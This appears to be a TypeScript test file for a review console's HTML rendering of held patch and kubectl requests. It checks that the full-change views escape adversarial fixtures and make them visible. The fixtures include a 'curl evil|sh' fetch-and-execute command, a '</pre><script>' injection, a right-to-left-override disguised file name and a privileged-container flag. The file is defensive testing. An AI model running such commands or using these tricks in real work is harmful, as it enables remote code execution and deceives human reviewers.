import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { renderCard } from '../../../../src/adapters/web/render/render-card.ts';
import { renderFullChange } from '../../../../src/adapters/web/render/render-full-change.ts';
import { bodyCard } from '../../core/changes/adversarial-body.ts';
import { patchCard } from '../../core/changes/adversarial-patch.ts';
import { assertGoldenHtml } from './golden-html.ts';

const CSRF = 'TOKEN-for-golden-files-0123456789abcdef';
const full = patchCard.change!.full;

describe('console: a patch card and its full change', () => {
  test('card-patch: says how many paths exist and links to the full change', () => {
    const markup = renderCard(patchCard, { csrfToken: CSRF }).value;
    assertGoldenHtml('web/card-patch', markup);
    assert.match(markup, /17 changed paths; 10 shown, values shortened/);
    assert.match(markup, /<a href="\/requests\/cs-p4tch0adv1#full-change">Show full change<\/a>/);
    assert.ok(!markup.includes('curl evil'), 'the card alone does not show the command');
  });

  test('full-change: every path with whole values and the exact patch, escaped', () => {
    const markup = renderFullChange(full).value;
    assertGoldenHtml('web/full-change', markup);
    for (const { path } of full.paths)
      assert.ok(markup.includes(`<code>${path}</code>`), `${path} is listed`);
    assert.ok(
      markup.includes('&quot;command&quot;:[&quot;sh&quot;,&quot;-c&quot;,&quot;curl evil|sh&quot;]'),
    );
    assert.equal(
      markup.match(/<pre/g)?.length,
      markup.match(/<\/pre>/g)?.length,
      'a value holding </pre> cannot close a block early',
    );
    assert.ok(!markup.includes('<script>') && markup.includes('&lt;/pre&gt;&lt;script&gt;'));
    assert.ok(!markup.includes('\u202e') && markup.includes('\\u202egnp.exe'));
  });
});

describe('console: a held kubectl request and its full body', () => {
  test('card-api-body: says the body size and links to the full request', () => {
    const markup = renderCard(bodyCard, { csrfToken: CSRF }).value;
    assertGoldenHtml('web/card-api-body', markup);
    assert.match(markup, /Request body 632 bytes; the card shows its first 199 characters/);
    assert.match(markup, /<a href="\/requests\/cs-b0dyadv01#full-change">Show full request<\/a>/);
    assert.ok(
      !markup.includes('privileged') && !markup.includes('curl evil'),
      'the card alone does not show them',
    );
    assert.ok(markup.includes(bodyCard.change!.full.call!.sha256));
  });

  test('full-request: the whole body, escaped, bidi visible', () => {
    const markup = renderFullChange(bodyCard.change!.full).value;
    assertGoldenHtml('web/full-request', markup);
    assert.ok(markup.includes('&quot;privileged&quot;: true') && markup.includes('&quot;curl evil|sh&quot;'));
    assert.ok(!markup.includes('<script>') && markup.includes('&lt;/pre&gt;&lt;script&gt;'));
    assert.ok(!markup.includes('\u202e') && markup.includes('\\u202egnp.exe &amp; &lt;b&gt;'));
    assert.ok(markup.includes(`SHA-256 ${bodyCard.change!.full.call!.sha256}`));
  });
});
